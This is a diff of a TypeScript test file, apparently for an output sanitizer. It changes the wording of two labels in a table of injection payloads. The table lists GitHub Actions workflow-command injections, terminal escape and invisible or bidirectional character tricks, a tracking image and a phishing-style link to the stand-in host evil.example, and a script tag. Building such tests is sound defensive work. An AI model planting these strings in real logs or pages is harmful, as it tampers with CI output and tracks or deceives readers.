@@ -13,7 +13,7 @@ const esc = '\u001b';
 const attempts: Readonly<Record<string, string>> = {
   '6.1 a command of the new syntax at the beginning of a line': '\n::set-output name=outcome::%',
   '6.1 a command behind blanks': 'x\n \t\u3000::error file=a::%',
-  '6.1 a command of the old syntax amid a line': 'x ##[set-output name=outcome]%',
+  '6.1 a command of the old syntax within a line': 'x ##[set-output name=outcome]%',
   '6.1 a command in capitals': 'x\r##[ADD-MASK]%',
   '6.1 a mask of what everybody writes': '\n::add-mask::e%',
   '6.1 a matcher out of the workspace': '\n::add-matcher::%.json',
@@ -31,7 +31,7 @@ const attempts: Readonly<Record<string, string>> = {
   '6.1 a line that overwrites itself': 'x\b\b\r%\u009b2K',
   '6.1 a text that reads backwards': '\u202e%\u2066x\u2069',
   '6.1 a text that is not seen': '\u200b%\u{e0041}\u{e0042}',
-  '6.2 an image that tells who looked': '<img src="https://evil.example/%.png">',
+  '6.2 an image that reveals its readers': '<img src="https://evil.example/%.png">',
   '6.2 a script': '<script>alert("%")</script>',
   '6.2 a tag behind entities': '&lt;img src=x id=%&gt;&#60;b&#62;',
   '6.2 a link': '[sign in](https://evil.example/%)',
